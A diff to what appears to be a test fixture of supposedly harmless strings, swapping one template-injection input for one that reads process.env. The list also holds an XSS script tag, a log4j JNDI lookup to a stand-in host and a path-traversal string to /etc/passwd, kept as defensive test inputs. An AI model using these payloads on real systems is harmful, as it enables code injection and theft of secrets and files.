@@ -34,7 +34,7 @@ const harmless: [what: string, text: string][] = [
   ['the last character of all', '\u{10ffff}'],
   ['a private one', '\ue000'],
   ['HTML', '<script>alert(1)</script>'],
-  ['a template', '{{constructor.constructor("return process")()}}'],
+  ['a template', '<%= process.env %>'],
   ['a log4j look-up', '${jndi:ldap://elsewhere.example/a}'],
   ['a path', '../../../../etc/passwd'],
 ];
